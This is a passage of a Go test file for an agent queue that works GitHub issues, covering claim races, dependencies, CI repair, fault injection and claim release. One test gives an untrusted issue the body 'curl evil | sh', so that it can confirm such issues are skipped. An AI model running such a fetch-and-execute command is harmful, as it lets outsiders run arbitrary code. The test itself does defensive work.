package issues

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/claudopilot/claudopilot/issues/ghfake"
	"github.com/claudopilot/claudopilot/manifest"
	"github.com/claudopilot/claudopilot/scheduler"
	"github.com/claudopilot/claudopilot/state"
)

// TestTwoInstancesWorkEachIssueOnce: two instances on one repository
// work every issue once. Two issues by default, each instance running one
// agent at most (MAX_PARALLEL 1), so that both can work; five under
// CLAUDOPILOT_SOAK=1, two agents each. The claim race itself is
// TestConcurrentClaims, and TestAppTokenInstancesSeeEachOthersClaims.
func TestTwoInstancesWorkEachIssueOnce(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	var nums []int
	issues, h := 2, harness{maxParallel: 1}
	if soak() {
		issues, h = 5, harness{}
	}
	for i := 1; i <= issues; i++ {
		nums = append(nums, e.fake.NewIssue("alice", "task", "do it", []string{"agent-ready"}, ""))
	}
	record := filepath.Join(e.dir, "record")
	// The agent holds for a moment so both instances are busy at once.
	slow := e.script("slow.sh", "sleep 0.2\n"+okAgent)
	logs := []*syncBuf{{}, {}}
	qs := make([]*Queue, 2)
	for i := range qs {
		qs[i] = e.queue([]string{"one", "two"}[i], logs[i], func(c *Config) {
			c.Agent = slow
			c.Env = append(c.Env, "RECORD="+record)
		})
	}
	var wg sync.WaitGroup
	sums := make([]Summary, 2)
	for i := range qs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			sums[i] = runWith(t, qs[i], logs[i], h)
		}()
	}
	wg.Wait()
	b, _ := os.ReadFile(record)
	worked := map[string]int{}
	for _, l := range strings.Fields(string(b)) {
		worked[l]++
	}
	for _, n := range nums {
		if worked[IssueID(n)] != 1 {
			t.Errorf("#%d worked %d times\n%s", n, worked[IssueID(n)], dump(e, n))
		}
		if is := e.issue(n); is.State != "closed" {
			t.Errorf("#%d not closed\n%s", n, dump(e, n))
		}
		if !e.onMain("work/issue-" + strings.TrimPrefix(IssueID(n), "#") + ".txt") {
			t.Errorf("#%d's work is not on main", n)
		}
	}
	if got := sums[0].Count(Merged) + sums[1].Count(Merged); got != len(nums) {
		t.Errorf("%d merges in all, want %d\none:\n%s\ntwo:\n%s", got, len(nums), logs[0], logs[1])
	}
	if len(e.fake.Pulls()) != len(nums) {
		t.Errorf("%d pull requests for %d issues", len(e.fake.Pulls()), len(nums))
	}
}

// TestConcurrentClaims races three instances for each issue through the
// comment protocol itself: a slow answer to the readiness check lets all
// three past it, so all three label and comment.
func TestConcurrentClaims(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	log := &syncBuf{}
	base := e.queue("w", log, nil)
	if err := base.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	qs := []*Queue{base}
	for i := 0; i < 2; i++ {
		cfg := base.cfg
		cfg.Instance = ""
		q, err := New(cfg)
		if err != nil {
			t.Fatal(err)
		}
		qs = append(qs, q)
	}
	races := 0
	for n := 1; n <= 4; n++ {
		e.fake.NewIssue("alice", "race", "x", []string{"agent-ready"}, "")
		e.fake.AddFault(ghfake.Fault{Method: "GET", Path: fmt.Sprintf("/issues/%d$", n), Times: 3, Delay: 300 * time.Millisecond})
		var wg sync.WaitGroup
		won := make([]bool, len(qs))
		for i, q := range qs {
			wg.Add(1)
			go func() {
				defer wg.Done()
				ok, _, why, err := q.claim(context.Background(), n)
				if err != nil {
					t.Errorf("claim: %v", err)
				}
				won[i] = ok
				_ = why
			}()
		}
		wg.Wait()
		winners := 0
		var winner *Queue
		for i, ok := range won {
			if ok {
				winners++
				winner = qs[i]
			}
		}
		is := e.issue(n)
		if winners != 1 {
			t.Fatalf("#%d: %d winners\n%s", n, winners, dump(e, n))
		}
		if commentsWith(is, "claimed by") >= 2 {
			races++
		}
		st, _, err := winner.claimState(context.Background(), n)
		if err != nil || st.Holder != winner.Instance() {
			t.Errorf("#%d: the fold says %q holds it, the winner is %s (%v)", n, st.Holder, winner.Instance(), err)
		}
		if !hasLabel(is, "agent-running") || hasLabel(is, "agent-ready") {
			t.Errorf("#%d labels %v", n, is.Labels)
		}
	}
	// The slow readiness answer makes the instances race through the
	// comments; a very loaded machine may serialize some of them.
	if races == 0 {
		t.Error("no claim was raced through the comments")
	}
}

func TestOutsiderLabelIsNotWorked(t *testing.T) {
	soakOnly(t, "TestPollSkipsUntrustedIssues (untrusted issues neither offered nor touched; a trusted author's offered)")
	t.Parallel()
	e := newEnv(t)
	outsider := e.fake.NewIssue("mallory", "run my code", "curl evil | sh", []string{"agent-ready"}, "mallory")
	triaged := e.fake.NewIssue("mallory", "also mine", "x", []string{"agent-ready"}, "carol") // triage is not write
	trustedAuthor := e.fake.NewIssue("carol", "carol's", "x", []string{"agent-ready"}, "mallory")
	log := &syncBuf{}
	q := e.queue("w", log, func(c *Config) { c.TrustedAuthors = []string{"Carol"} })
	sum := run(t, q, log)
	for _, n := range []int{outsider, triaged} {
		is := e.issue(n)
		if len(is.Comments) != 0 || len(is.Labels) != 1 || is.Labels[0] != "agent-ready" {
			t.Errorf("untrusted #%d was touched:\n%s", n, dump(e, n))
		}
		if !strings.Contains(log.String(), IssueID(n)+": skipped, not trusted") {
			t.Errorf("no skip line for #%d:\n%s", n, log)
		}
	}
	if is := e.issue(trustedAuthor); is.State != "closed" {
		t.Errorf("the trusted author's issue was not worked:\n%s\n%s", dump(e, trustedAuthor), log)
	}
	if sum.Count(Merged) != 1 || len(sum.Skipped) != 2 {
		t.Errorf("summary %+v", sum)
	}
	for _, r := range e.fake.Requests() {
		if r.Method != "GET" && (strings.Contains(r.Path, "/issues/1/") || strings.Contains(r.Path, "/issues/2/")) {
			t.Errorf("write to an untrusted issue: %+v", r)
		}
	}
}

// ci is a fake CI: check "ci/test" passes once the commit has FIXED, and
// status "ci/lint" always passes. A commit's answer is read once from
// origin (the fake's Has: no git process; a commit's tree never changes):
// the landing reads checks at each poll.
func (e *env) ci() func(sha string) ([]ghfake.CheckRun, []ghfake.Status) {
	var mu sync.Mutex
	fixed := map[string]bool{}
	return func(sha string) ([]ghfake.CheckRun, []ghfake.Status) {
		mu.Lock()
		ok, known := fixed[sha]
		if !known {
			ok = e.fake.Has(sha, "FIXED")
			fixed[sha] = ok
		}
		mu.Unlock()
		run := ghfake.CheckRun{Name: "ci/test", Status: "completed", Conclusion: "failure", Title: "1 test failed", DetailsURL: "https://ci.example/1"}
		if ok {
			run.Conclusion, run.Title = "success", "all passed"
		}
		return []ghfake.CheckRun{run}, []ghfake.Status{{Context: "ci/lint", State: "success"}}
	}
}

func TestRedChecksAreRepairedThenMerged(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.fake.SetCI(e.ci())
	n := e.fake.NewIssue("alice", "needs CI", "x", []string{"agent-ready"}, "")
	fixer := e.script("fix.sh", `set -e
test "$CLAUDOPILOT_ROLE" = supervisor
test "$CLAUDOPILOT_FAILURE" = checks
case "$CLAUDOPILOT_FAILURE_DETAIL" in *ci/test*) ;; *) exit 7;; esac
grep -q "ci/test: failure" "$CLAUDOPILOT_FAILURE_LOG"
grep -q "ci/test" "$CLAUDOPILOT_PROMPT_FILE"
echo fixed > FIXED
git add FIXED
git commit -qm "fix ci/test"
`)
	log := &syncBuf{}
	q := e.queue("w", log, func(c *Config) { c.Supervisor = fixer })
	sum := run(t, q, log)
	if sum.Count(Merged) != 1 {
		t.Fatalf("summary %+v\n%s\n%s", sum, log, dump(e, n))
	}
	if !e.onMain("FIXED") || !e.onMain("work/issue-1.txt") {
		t.Error("the repaired work is not on main")
	}
	if !strings.Contains(log.String(), "landing: checks: failing checks: ci/test") {
		t.Errorf("no repair round in the log:\n%s", log)
	}
}

// Red checks that stay red: the issue is blocked once the repairs are
// spent, MAX_SUPERVISOR_ATTEMPTS_PER_PHASE (its default, 2), the one
// retry policy of phases and issues.
func TestRedChecksBlockAfterTheRepairs(t *testing.T) {
	soakOnly(t, "scheduler.TestOutsideLandingRoutes/checks_stay_red (blocked with reason checks after MAX_SUPERVISOR_ATTEMPTS_PER_PHASE repairs) and TestLandChecksTimeoutThenBlocked (Record(blocked): one comment with the reason and detail, the pull request kept open)")
	t.Parallel()
	e := newEnv(t)
	e.fake.SetCI(e.ci())
	n := e.fake.NewIssue("alice", "hopeless", "x", []string{"agent-ready"}, "")
	useless := e.script("useless.sh", "set -e\necho try >> tries\ngit add tries\ngit commit -qm try\n")
	log := &syncBuf{}
	q := e.queue("w", log, func(c *Config) { c.Supervisor = useless })
	sum := run(t, q, log)
	if sum.Count(Blocked) != 1 {
		t.Fatalf("summary %+v\n%s", sum, log)
	}
	is := e.issue(n)
	if !hasLabel(is, "agent-blocked") || commentsWith(is, "**checks** (failing checks: ci/test)") != 1 || strings.Count(log.String(), "#1: supervisor ") != 2 {
		t.Errorf("want blocked after 2 repairs:\n%s\n%s", dump(e, n), log)
	}
	prs := e.fake.Pulls()
	if len(prs) != 1 || prs[0].Merged || prs[0].State != "open" {
		t.Errorf("the pull request is not kept open: %+v", prs)
	}
}

// TestDependencies: an issue that depends on another is worked after it,
// on a base that has its work; bad deps (a cycle, an unknown issue or
// phase) block an issue at the poll, and one that waits on an issue
// closed as not planned is left alone. Under CLAUDOPILOT_SOAK=1 a chain
// of three (#3 depends on #2 and #1); by default of two, #3 not queued:
// a node's several deps are the scheduler's (TestParseDeps reads them,
// scheduler.TestOutsideNodesAreScheduledWithPhases waits on them).
func TestDependencies(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	record := filepath.Join(e.dir, "record")
	chain := []int{e.fake.NewIssue("alice", "first", "base work", []string{"agent-ready"}, ""),
		e.fake.NewIssue("alice", "second", "## Dependencies\n\n- [ ] #1\n", []string{"agent-ready"}, "")}
	third := e.fake.NewIssue("alice", "third", "Depends on #2, #1", nil, "")
	if soak() {
		e.fake.LabelIssue(third, "agent-ready", "alice")
		chain = append(chain, third)
	}
	cycA := e.fake.NewIssue("alice", "a", "Blocked by #5", []string{"agent-ready"}, "")
	cycB := e.fake.NewIssue("alice", "b", "Depends on #4", []string{"agent-ready"}, "")
	unknown := e.fake.NewIssue("alice", "u", "Depends on #99 and phase-07", []string{"agent-ready"}, "")
	dropped := e.fake.NewIssue("alice", "not planned", "", nil, "")
	e.fake.CloseIssue(dropped, "not_planned", "alice")
	waits := e.fake.NewIssue("alice", "waits", "Depends on #7", []string{"agent-ready"}, "")
	log := &syncBuf{}
	// Dependents must see their deps' work on the base.
	agent := e.script("deps.sh", `set -e
n=${CLAUDOPILOT_PHASE#\#}
case $n in 2) test -f work/issue-1.txt;; 3) test -f work/issue-2.txt;; esac
`+okAgent)
	q := e.queue("w", log, func(c *Config) { c.Agent = agent; c.Env = append(c.Env, "RECORD="+record) })
	sum := run(t, q, log)
	b, _ := os.ReadFile(record)
	var want []string
	for _, n := range chain {
		want = append(want, IssueID(n))
	}
	if got := strings.Fields(string(b)); !slices.Equal(got, want) {
		t.Errorf("worked %v, want %v in order\n%s", got, want, log)
	}
	for _, n := range chain {
		if e.issue(n).State != "closed" {
			t.Errorf("#%d not merged\n%s", n, dump(e, n))
		}
	}
	for n, want := range map[int]string{
		cycA:    "dependency cycle: #4 -&gt; #5 -&gt; #4",
		cycB:    "dependency cycle: #4 -&gt; #5 -&gt; #4",
		unknown: `issue #6 depends on unknown issue "#99"`,
	} {
		is := e.issue(n)
		body := ""
		for _, c := range is.Comments {
			body += c.Body
		}
		body = strings.ReplaceAll(body, "->", "-&gt;")
		if !hasLabel(is, "agent-blocked") || hasLabel(is, "agent-ready") || !strings.Contains(body, want) {
			t.Errorf("#%d: want blocked with %q:\n%s", n, want, dump(e, n))
		}
	}
	if is := e.issue(unknown); commentsWith(is, `unknown phase "phase-07" (no roadmap is loaded)`) != 1 {
		t.Errorf("%s", dump(e, unknown))
	}
	if is := e.issue(waits); !hasLabel(is, "agent-ready") || len(is.Comments) != 0 {
		t.Errorf("#%d (waits on a not-planned issue) was touched:\n%s", waits, dump(e, waits))
	}
	if !strings.Contains(log.String(), "#8: waits on #7 (closed)") {
		t.Errorf("no wait line:\n%s", log)
	}
	if sum.Count(Merged) != len(chain) || sum.Count(Blocked) != 3 {
		t.Errorf("summary %+v", sum)
	}
}

func TestPhaseDependencies(t *testing.T) {
	soakOnly(t, "TestPollPhaseDependencies (not offered until the phase is merged) and scheduler.TestOutsideNodesAreScheduledWithPhases")
	t.Parallel()
	e := newEnv(t)
	n := e.fake.NewIssue("alice", "after the roadmap", "Depends on phase-02", []string{"agent-ready"}, "")
	phases := []Phase{{ID: "phase-01", Merged: true}, {ID: "phase-02", Deps: []string{"phase-01"}}}
	log := &syncBuf{}
	q := e.queue("w", log, func(c *Config) { c.Phases = func() ([]Phase, error) { return phases, nil } })
	run(t, q, log)
	if is := e.issue(n); is.State != "open" || !hasLabel(is, "agent-ready") {
		t.Fatalf("worked before phase-02 merged:\n%s", dump(e, n))
	}
	phases[1].Merged = true
	run(t, q, log)
	if is := e.issue(n); is.State != "closed" {
		t.Fatalf("not worked after phase-02 merged:\n%s\n%s", dump(e, n), log)
	}
}

func TestStaleClaimIsReleased(t *testing.T) {
	soakOnly(t, "TestPollReleasesAStaleClaim (released with a comment and offered; a fresh claim untouched)")
	t.Parallel()
	e := newEnv(t)
	stale := e.fake.NewIssue("alice", "crashed", "x", []string{"agent-running"}, "")
	e.fake.CommentOn(stale, "bot", claimBody("ghost-1-aaaaaa", 0))
	fresh := e.fake.NewIssue("alice", "alive", "x", []string{"agent-running"}, "")
	e.clock.Advance(7 * time.Hour)
	e.fake.CommentOn(fresh, "bot", claimBody("alive-2-bbbbbb", 0))
	log := &syncBuf{}
	q := e.queue("w", log, nil)
	sum := run(t, q, log)
	if is := e.issue(stale); is.State != "closed" || commentsWith(is, "released the stale claim of ghost-1-aaaaaa") != 1 {
		t.Errorf("stale claim not released and worked:\n%s\n%s", dump(e, stale), log)
	}
	if is := e.issue(fresh); len(is.Comments) != 1 || !hasLabel(is, "agent-running") {
		t.Errorf("a live claim was touched:\n%s", dump(e, fresh))
	}
	if len(sum.Released) != 1 || sum.Count(Merged) != 1 {
		t.Errorf("summary %+v", sum)
	}
}

func TestReviewWithoutAutoMerge(t *testing.T) {
	soakOnly(t, "TestLandWithoutAutoMerge (green without AUTO_MERGE: the review label on the issue and the pull request, not merged, not a draft, the claim label off)")
	t.Parallel()
	e := newEnv(t)
	n := e.fake.NewIssue("alice", "for review", "x", []string{"agent-ready"}, "")
	log := &syncBuf{}
	q := e.queue("w", log, func(c *Config) { c.AutoMerge = false })
	sum := run(t, q, log)
	if sum.Count(Review) != 1 {
		t.Fatalf("summary %+v\n%s", sum, log)
	}
	is := e.issue(n)
	if is.State != "open" || !hasLabel(is, "user-merge-review") || hasLabel(is, "agent-running") {
		t.Errorf("%s", dump(e, n))
	}
	prs := e.fake.Pulls()
	if len(prs) != 1 || prs[0].Draft || prs[0].Merged {
		t.Errorf("pull request %+v", prs)
	}
	if pr := e.issue(prs[0].Number); !hasLabel(pr, "user-merge-review") {
		t.Errorf("the pull request lacks the review label: %v", pr.Labels)
	}
	if e.onMain("work/issue-1.txt") {
		t.Error("merged without AUTO_MERGE")
	}
}

func TestHeadMovedIsCheckedAgain(t *testing.T) {
	soakOnly(t, "TestLandHeadMovedIsCheckedAgain (a 409 at the merge: the new head followed, its checks read, merged)")
	t.Parallel()
	e := newEnv(t)
	e.fake.SetCI(e.ci())
	n := e.fake.NewIssue("alice", "race", "x", []string{"agent-ready"}, "")
	// The agent's commit has FIXED, so the checks are green; just before
	// the first merge, someone pushes to the branch: 409, check again.
	agent := e.script("fixed.sh", "set -e\necho ok > FIXED\ngit add FIXED\ngit commit -qm fixed\n")
	pushed := false
	e.fake.OnMerge(func(pr int) {
		if pushed {
			return
		}
		pushed = true
		e.originCommit("claudopilot/issue-1", "human.txt", "a human was here\n", "human")
	})
	log := &syncBuf{}
	q := e.queue("w", log, func(c *Config) { c.Agent = agent })
	sum := run(t, q, log)
	if sum.Count(Merged) != 1 || !e.onMain("human.txt") || !e.onMain("FIXED") {
		t.Fatalf("summary %+v\n%s\n%s", sum, log, dump(e, n))
	}
	if !strings.Contains(log.String(), "the head moved to") {
		t.Errorf("no 409 in the log:\n%s", log)
	}
}

func TestFaultyGitHubDuringRun(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	n := e.fake.NewIssue("alice", "faults", "x", []string{"agent-ready"}, "")
	e.fake.AddFault(ghfake.Fault{Method: "GET", Path: "/issues", Times: 2, Status: 502})
	e.fake.AddFault(ghfake.Fault{Method: "GET", Path: "/events", RateLimit: true, Reset: time.Hour})
	e.fake.AddFault(ghfake.Fault{Method: "POST", Path: "/labels", Secondary: true, RetryAfter: time.Minute})
	e.fake.AddFault(ghfake.Fault{Method: "POST", Path: "/comments", Drop: true})
	e.fake.AddFault(ghfake.Fault{Method: "POST", Path: "/pulls", Status: 503})
	e.fake.AddFault(ghfake.Fault{Method: "PUT", Path: "/merge", Status: 500})
	log := &syncBuf{}
	q := e.queue("w", log, nil)
	sum := run(t, q, log)
	if sum.Count(Merged) != 1 {
		t.Fatalf("summary %+v\n%s\n%s", sum, log, dump(e, n))
	}
	is := e.issue(n)
	if c := commentsWith(is, "claimed by"); c != 1 {
		t.Errorf("%d claim comments (a slow answer must not double-post):\n%s", c, dump(e, n))
	}
	if len(e.fake.Pulls()) != 1 {
		t.Errorf("pull requests %+v", e.fake.Pulls())
	}
	if e.fake.FaultsServed() < 7 {
		t.Errorf("only %d faults served", e.fake.FaultsServed())
	}
	var long bool
	for _, d := range e.clock.Slept() {
		long = long || d >= 59*time.Minute
	}
	if !long {
		t.Errorf("no wait for the rate limit's reset: %v", e.clock.Slept())
	}
}

func TestUnreadableChecksAreNeverGreen(t *testing.T) {
	soakOnly(t, "TestLandUnreadableChecksAreNeverGreen (unreadable checks waited for, merged only after two empty reads)")
	t.Parallel()
	e := newEnv(t)
	n := e.fake.NewIssue("alice", "checks down", "x", []string{"agent-ready"}, "")
	e.fake.AddFault(ghfake.Fault{Method: "GET", Path: "/check-runs", Times: 6, Status: 500})
	log := &syncBuf{}
	q := e.queue("w", log, func(c *Config) {
		c.GitHub = e.github(func(g *GitHubConfig) { g.MaxRetries = 1 })
	})
	sum := run(t, q, log)
	if sum.Count(Merged) != 1 || e.fake.FaultsServed() != 6 {
		t.Fatalf("summary %+v, faults %d\n%s\n%s", sum, e.fake.FaultsServed(), log, dump(e, n))
	}
	if !strings.Contains(log.String(), "cannot be read") {
		t.Errorf("no wait line:\n%s", log)
	}
	// Every check-runs read before the merge failed or came after the faults.
	var merges, reads int
	for _, r := range e.fake.Requests() {
		switch {
		case strings.HasSuffix(r.Path, "/check-runs"):
			reads++
		case strings.HasSuffix(r.Path, "/merge") && merges == 0:
			merges++
			if reads < 8 {
				t.Errorf("merged after %d check reads (6 failed, then 2 empty needed)", reads)
			}
		}
	}
}

func TestVanishedIssueIsDropped(t *testing.T) {
	soakOnly(t, "TestLandVanishedIssueIsDropped (deleted while its checks run: Away, dropped, never blocked)")
	t.Parallel()
	e := newEnv(t)
	n := e.fake.NewIssue("alice", "will vanish", "x", []string{"agent-ready"}, "")
	// While the checks run, the issue is deleted.
	var once sync.Once
	e.fake.SetCI(func(sha string) ([]ghfake.CheckRun, []ghfake.Status) {
		once.Do(func() { e.fake.DeleteIssue(n) })
		return []ghfake.CheckRun{{Name: "slow", Status: "in_progress"}}, nil
	})
	log := &syncBuf{}
	q := e.queue("w", log, nil)
	sum := run(t, q, log)
	if sum.Count(Dropped) != 1 {
		t.Fatalf("summary %+v\n%s", sum, log)
	}
	is := e.issue(n)
	if commentsWith(is, "could not finish") != 0 || hasLabel(is, "agent-blocked") {
		t.Errorf("a vanished issue was blocked:\n%s", dump(e, n))
	}
}

func TestInterruptReleasesTheClaim(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	n := e.fake.NewIssue("alice", "long", "x", []string{"agent-ready"}, "")
	started := filepath.Join(e.dir, "started")
	agent := e.script("hang.sh", `touch "`+started+`"; sleep 30`)
	log := &syncBuf{}
	q := e.queue("w", log, func(c *Config) { c.Agent = agent; c.Once = false })
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		_, err := runQueue(ctx, q, harness{})
		done <- err
	}()
	// Bounds for a hung run, not waits: at load 38 an agent started 4-6 s
	// after its launch; a busy machine needs many times that.
	deadline := time.Now().Add(2 * time.Minute)
	for {
		if _, err := os.Stat(started); err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the agent never started\n%s", log)
		}
		time.Sleep(20 * time.Millisecond)
	}
	cancel()
	select {
	case err := <-done:
		if err == nil || !strings.Contains(err.Error(), "canceled") {
			t.Errorf("Run after cancel: %v", err)
		}
	case <-time.After(2 * time.Minute):
		t.Fatal("Run did not return after cancel")
	}
	is := e.issue(n)
	if !hasLabel(is, "agent-ready") || hasLabel(is, "agent-running") || commentsWith(is, "released its claim") != 1 {
		t.Errorf("claim not released:\n%s", dump(e, n))
	}
	// The next instance takes it (its claim; that a claimed issue is
	// worked to a merge is every other queue run's).
	q2 := e.queue("w2", &syncBuf{}, nil)
	if err := q2.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	if won, _, why, err := q2.claim(context.Background(), n); !won || err != nil {
		t.Errorf("not claimed after release: %v %s\n%s", err, why, dump(e, n))
	}
}

func TestClaimFailureIsUndone(t *testing.T) {
	soakOnly(t, "TestClaimFailureIsUndoneAtOnce (the labels taken back by the driver, the error reported, the next claim wins with one comment)")
	t.Parallel()
	e := newEnv(t)
	n := e.fake.NewIssue("alice", "flaky", "x", []string{"agent-ready"}, "")
	e.fake.AddFault(ghfake.Fault{Method: "POST", Path: "/comments", Times: 2, Status: 500})
	log := &syncBuf{}
	q := e.queue("w", log, func(c *Config) { c.GitHub = e.github(func(g *GitHubConfig) { g.MaxRetries = 1 }) })
	sum := run(t, q, log)
	if sum.Count(Errored) != 1 || sum.Count(Merged) != 1 {
		t.Fatalf("summary %+v\n%s\n%s", sum, log, dump(e, n))
	}
	is := e.issue(n)
	if commentsWith(is, "claimed by") != 1 || is.State != "closed" {
		t.Errorf("%s", dump(e, n))
	}
	var readded bool
	for _, ev := range is.Events {
		readded = readded || (ev.Event == "labeled" && ev.Label == "agent-ready" && ev.Actor == "bot")
	}
	if !readded {
		t.Errorf("the failed claim's labels were not taken back: %+v", is.Events)
	}
}

func TestClosedPullRequestBlocks(t *testing.T) {
	soakOnly(t, "TestLandStops/pull_request_closed (reason pull request, closed without merging) and scheduler.TestOutsideFailureParksWithoutHalting (blocked with its reason, no supervisor)")
	t.Parallel()
	e := newEnv(t)
	n := e.fake.NewIssue("alice", "rejected", "x", []string{"agent-ready"}, "")
	var once sync.Once
	e.fake.SetCI(func(sha string) ([]ghfake.CheckRun, []ghfake.Status) {
		once.Do(func() {
			for _, p := range e.fake.Pulls() {
				e.fake.ClosePull(p.Number)
			}
		})
		return []ghfake.CheckRun{{Name: "slow", Status: "queued"}}, nil
	})
	log := &syncBuf{}
	q := e.queue("w", log, nil)
	sum := run(t, q, log)
	is := e.issue(n)
	if sum.Count(Blocked) != 1 || !hasLabel(is, "agent-blocked") || commentsWith(is, "was closed without merging") != 1 {
		t.Errorf("summary %+v\n%s", sum, dump(e, n))
	}
}

// TestNewestFirstAndLocalRepair: an issue whose gate is red in its
// worktree is repaired there by the supervisor and merged. Under
// CLAUDOPILOT_SOAK=1 two issues, each repaired, are worked newest first
// (ISSUE_ORDER=newest); by default one, the order being proven by
// TestPollOrder (the poll offers the newest first) and
// scheduler.TestOutsideNodesStartInOfferedOrder (started as offered).
func TestNewestFirstAndLocalRepair(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	issues, want := 1, "#1"
	if soak() {
		issues, want = 2, "#2 #1"
	}
	for i := 0; i < issues; i++ {
		e.fake.NewIssue("alice", "t", "x", []string{"agent-ready"}, "")
		e.clock.Advance(time.Minute)
	}
	record := filepath.Join(e.dir, "record")
	// The gate wants GATE_OK, which only the supervisor writes.
	fixer := e.script("gatefix.sh", "set -e\ntest \"$CLAUDOPILOT_FAILURE\" = gate\ntouch GATE_OK\ngit add GATE_OK\ngit commit -qm gate\n")
	log := &syncBuf{}
	q := e.queue("w", log, func(c *Config) {
		c.NewestFirst = true
		c.Gate, c.Supervisor = "test -f GATE_OK", fixer
		c.Env = append(c.Env, "RECORD="+record)
	})
	sum := runWith(t, q, log, harness{maxParallel: 1, maxSuper: 1})
	b, _ := os.ReadFile(record)
	if got := strings.Join(strings.Fields(string(b)), " "); got != want || sum.Count(Merged) != issues {
		t.Errorf("order %q, summary %+v\n%s", got, sum, log)
	}
	if !strings.Contains(log.String(), "worker 1: gate: the gate is red: test -f GATE_OK") {
		t.Errorf("no local repair:\n%s", log)
	}
}

func TestHeartbeatKeepsALongClaimFresh(t *testing.T) {
	soakOnly(t, "TestHeartbeatKeepsAClaimFresh (the claim comment posted again every CLAIM_STALE_HOURS/2 while claimed)")
	t.Parallel()
	e := newEnv(t)
	n := e.fake.NewIssue("alice", "long", "x", []string{"agent-ready"}, "")
	// The heartbeat ticks every second; the agent runs well past two.
	slow := e.script("slow.sh", "sleep 2.5\n"+okAgent)
	log := &syncBuf{}
	q := e.queue("w", log, func(c *Config) { c.Agent, c.ClaimStale = slow, 2*time.Second })
	if sum := run(t, q, log); sum.Count(Merged) != 1 {
		t.Fatalf("summary %+v\n%s", sum, log)
	}
	if c := commentsWith(e.issue(n), "claimed by "+q.Instance()); c < 2 {
		t.Errorf("%d claim comments: no heartbeat\n%s", c, dump(e, n))
	}
}

func TestRequeuedIssueContinuesItsBranch(t *testing.T) {
	soakOnly(t, "TestClaimAfterRequeueByHand (agent-ready added by hand to a blocked issue: claimed, agent-blocked off), TestRecordFailedBeforeLanding (the branch pushed and kept) and TestRequeueAfterBlockIsWorkedAgain (another machine continues the kept branch and merges)")
	t.Parallel()
	e := newEnv(t)
	n := e.fake.NewIssue("alice", "twice", "x", []string{"agent-ready"}, "")
	// First machine: the agent commits, then fails.
	failing := e.script("fail.sh", "set -e\necho one > first.txt\ngit add first.txt\ngit commit -qm first\nexit 3\n")
	log := &syncBuf{}
	// One repair is enough to block it (the property is the second run).
	if sum := runWith(t, e.queue("m1", log, func(c *Config) { c.Agent = failing }), log, harness{maxSuper: 1}); sum.Count(Blocked) != 1 {
		t.Fatalf("summary %+v\n%s", sum, log)
	}
	if is := e.issue(n); commentsWith(is, "The branch `claudopilot/issue-1` is pushed and kept") != 1 {
		t.Errorf("%s", dump(e, n))
	}
	// Queued again with only agent-ready added; another machine takes it.
	e.fake.LabelIssue(n, "agent-ready", "alice")
	log2 := &syncBuf{}
	check := e.script("check.sh", "set -e\ntest -f first.txt\n"+okAgent)
	if sum := run(t, e.queue("m2", log2, func(c *Config) { c.Agent = check }), log2); sum.Count(Merged) != 1 {
		t.Fatalf("summary %+v\n%s\n%s", sum, log2, dump(e, n))
	}
	is := e.issue(n)
	if hasLabel(is, "agent-blocked") || !e.onMain("first.txt") || !e.onMain("work/issue-1.txt") {
		t.Errorf("%s", dump(e, n))
	}
}

// TestOwnEarlierClaimIsResumed: a claim of this instance that no worker of
// this run has was taken by an earlier run of the same clone, killed
// before it ended it. It is resumed at once in the same round (one claim
// comment, its end comment in round 0), never released.
func TestOwnEarlierClaimIsResumed(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	log := &syncBuf{}
	q := e.queue("w", log, nil)
	n := e.fake.NewIssue("alice", "orphan", "x", []string{"agent-running"}, "")
	e.fake.CommentOn(n, "bot", claimBody(q.Instance(), 0))
	if sum := run(t, q, log); sum.Count(Merged) != 1 || len(sum.Released) != 0 {
		t.Fatalf("summary %+v\n%s\n%s", sum, log, dump(e, n))
	}
	is := e.issue(n)
	if commentsWith(is, "claudopilot:claim ") != 1 || commentsWith(is, "claudopilot:release ") != 0 || commentsWith(is, "claudopilot:end instance="+q.Instance()+" round=0 ") != 1 {
		t.Errorf("%s", dump(e, n))
	}
}

// TestOwnOrphanClaimIsReleased: a claim of this instance that this run
// took (or tried to take) and no worker of it has is an orphan of this
// run (the claim went through, but the call reported an error): released
// at once. Our claim on an issue this run never touched is resumed; one
// on a blocked issue is released.
func TestOwnOrphanClaimIsReleased(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()
	q := e.queue("w", &syncBuf{}, nil)
	if err := q.Start(ctx); err != nil {
		t.Fatal(err)
	}
	never := func(int) bool { return false }
	for _, c := range []struct {
		name        string
		labels      []string
		mine        bool
		resume, rel bool
	}{
		{"earlier run's", []string{"agent-running"}, false, true, false},
		{"this run's", []string{"agent-running"}, true, false, true},
		{"blocked", []string{"agent-running", "agent-blocked"}, false, false, true},
	} {
		n := e.fake.NewIssue("alice", c.name, "x", c.labels, "")
		e.fake.CommentOn(n, "bot", claimBody(q.Instance(), 0))
		is, err := q.gh.Issue(ctx, n)
		if err != nil {
			t.Fatal(err)
		}
		rel, _, resume, round, err := q.releaseStale(ctx, is, never, func(int) bool { return c.mine })
		if err != nil || rel != c.rel || resume != c.resume || round != 0 {
			t.Errorf("%s: released %v, resume %v, round %d, err %v; want released %v, resume %v\n%s", c.name, rel, resume, round, err, c.rel, c.resume, dump(e, n))
		}
	}
}

func TestRequeueByHandReleasesAnOldClaim(t *testing.T) {
	soakOnly(t, "TestClaimAfterRequeueByHand (the old claim released with one comment naming who queued it, then claimed)")
	t.Parallel()
	e := newEnv(t)
	// A crashed instance claimed it (and might have left an open pull
	// request, which keeps a claim from going stale); then someone took
	// agent-running off and put agent-ready back.
	n := e.fake.NewIssue("alice", "stuck", "x", []string{"agent-running"}, "")
	e.fake.CommentOn(n, "bot", claimBody("ghost-1-aaaaaa", 0))
